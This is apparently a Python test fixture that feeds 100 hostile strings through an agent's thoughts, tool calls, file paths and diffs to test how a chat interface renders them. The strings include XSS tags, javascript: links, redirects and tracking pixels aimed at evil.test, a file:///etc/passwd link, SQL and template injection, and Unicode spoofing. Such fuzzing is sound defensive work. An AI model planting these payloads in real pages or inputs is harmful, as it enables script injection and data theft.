"""A hundred strings that would like to be something else: markup, script, addresses, directions, very long words."""

from collections.abc import AsyncIterator

from moot.core.flows.turns import TurnInput
from moot.core.session.tool_use import ToolUse
from moot.runtime.ports import Output, Step, Thinking

_CALL = "window.pwned=1"
_TAGS = [
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>x",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<math><mtext><script>{_CALL}</script>",
    f"<video><source onerror={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<object data=javascript:{_CALL}>",
    f"<base href=//evil.test/><script src=x>{_CALL}</script>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><button>x",
    "</textarea></title></style></script><h1>out",
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    "<plaintext>",
    f"<template><img src=x onerror={_CALL}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<custom-element onclick={_CALL}>",
]
_LINKS = [
    f"[x](javascript:{_CALL})",
    f"[x](JaVaScRiPt:{_CALL})",
    f"[x](java\tscript:{_CALL})",
    f"![x](javascript:{_CALL})",
    "![x](http://evil.test/pixel.png)",
    "![x](//evil.test/pixel.png)",
    "[x](data:text/html,<script>1</script>)",
    "[x](vbscript:1)",
    "[x](file:///etc/passwd)",
    "<http://evil.test/auto>",
    "[x]( javascript:1 )",
    "[x][1]\n\n[1]: javascript:1",
    '[a](https://evil.test/"onmouseover="x)',
    "https://evil.test/<script>",
    "[x](https://user:pw@evil.test)",
    "[trusted.example](https://evil.test)",
    "`[x](javascript:1)`",
    "**<b>x**",
    "> <script>1</script>",
    "```\n<script>1</script>\n```",
    "| <b> | [x](javascript:1) |\n|---|---|\n| 1 | 2 |",
    "# <h1>x</h1>",
    "- <li onclick=1>x",
    "[[[[[[[[[[x](",
    "![[x](y)](javascript:1)",
]
_TEXTS = [
    "\u202egnp.exe",
    "\u2066\u2067\u2068x",
    "a\u0300\u0301\u0302\u0303" * 20,
    "\ufeffx",
    "\u200b\u200d" * 50 + "x",
    "🏴‍☠️👩‍👩‍👧‍👦" * 10,
    "W" * 3_000,
    "长" * 3_000,
    "a/" * 800,
    "0" * 500 + ".txt",
    "x\n" * 300,
    "\t" * 200 + "x",
    "{{constructor}}",
    "${7*7}",
    "#{7*7}",
    "%s%n%x",
    "'; DROP TABLE sessions; --",
    "\\u003cscript\\u003e",
    "&lt;script&gt;",
    "&#60;img src=x&#62;",
    "null",
    "undefined",
    "__proto__",
    "constructor",
    "NaN",
]
_MARKERS = [
    "[NEXT:]",
    "[NEXT: <b>]",
    "[NEXT: ../../etc]",
    "[DROP: x]",
    "[FROM: <script>]x",
    "[TEAM_TASK: <img src=x>]",
    "[DONE",
    "]NEXT[",
    "/not/a/command",
    "@<b>",
    "📋 Queue: [Claude ⏳] → Bob",
    "⚠️ 'x' 不在当前团队中，已跳过",
    "data:,",
    "javascript:1",
    "blob:x",
    "javascript&colon;1",
    "jav&#x09;ascript:1",
    '"><script>1</script>',
    "'-alert(1)-'",
    "`-alert(1)-`",
    "<x/onclick=1>",
    "<a\x0bhref=javascript:1>",
    "<<script>script>1",
    "<scr<script>ipt>1",
    "<img/src=x/onerror=1>",
]
HOSTILE = [*_TAGS, *_LINKS, *_TEXTS, *_MARKERS]
assert len(HOSTILE) == len(set(HOSTILE)) == 100


async def act(turn: TurnInput) -> AsyncIterator[Output | str]:
    """A member whose every thought, tool, diff and file name is one of them."""
    for at, text in enumerate(HOSTILE):
        first, *rest = text.splitlines()
        head = [f"--- a/{first}", f"+++ b/{first}", f"@@ -1 +1,{1 + len(rest)} @@ {first}"]
        diff = "\n".join([*head, *(f"+{line}" for line in (first, *rest))])
        tool = ToolUse(id=str(at), kind="edit", title=text, paths=(text,), status="failed", exit=1)
        yield Thinking(text)
        yield Step(thought=text)
        yield Step(tool=tool, observation=text, diff=diff)
    yield "done"
